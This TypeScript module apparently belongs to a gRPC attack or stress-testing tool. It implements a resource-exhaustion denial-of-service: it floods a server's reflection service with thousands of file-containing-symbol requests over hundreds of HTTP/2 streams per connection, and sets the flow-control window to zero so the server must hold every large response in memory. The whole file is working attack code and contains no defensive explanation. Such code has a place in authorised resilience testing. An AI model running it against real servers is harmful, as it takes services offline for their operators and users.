import type { AskedCall } from './grpc-answered.ts';
import { type GrpcTarget, onConnections, untilClosed } from './grpc-connections.ts';
import { callHeaders, data, endHeaders, frame, frameType, grpcMessage } from './http2-frames.ts';

/** ServerReflectionRequest {file_containing_symbol}, whose answer is the file and all that it imports. */
const symbol = Buffer.from('svc.v1.LedgerService');
const request = grpcMessage(Buffer.concat([Buffer.from([0x22, symbol.length]), symbol]));
const requests = Buffer.concat(Array.from({ length: 2_000 }, () => request));

const path = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
export const asked: readonly AskedCall[] = [{ path, body: request, minBytes: 1_000 }];

/** Asks reflection on streams of which no answer is taken: their window is 0. */
export function run(target: GrpcTarget, signal: AbortSignal, connections: number): Promise<number> {
  return onConnections(
    target,
    signal,
    connections,
    async (attacker) => {
      for (let stream = 0; stream < 500 && !attacker.socket.destroyed; stream += 1) {
        const id = attacker.nextStream();
        await attacker.send(frame(frameType.headers, endHeaders, id, callHeaders(path)));
        await attacker.send(data(id, requests));
      }
      await untilClosed(attacker);
    },
    { windowBytes: 0 },
  );
}
